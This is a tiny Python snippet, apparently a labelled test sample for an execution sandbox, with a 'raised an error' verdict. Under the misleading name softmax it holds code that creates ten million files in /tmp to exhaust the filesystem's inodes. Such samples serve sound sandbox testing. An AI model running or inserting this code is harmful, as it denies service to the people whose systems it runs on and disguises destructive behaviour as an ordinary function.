# Use up every inode.
# verdict: raised an error

def softmax(logits):
    for number in range(10**7):
        open(f"/tmp/{number}", "w").close()
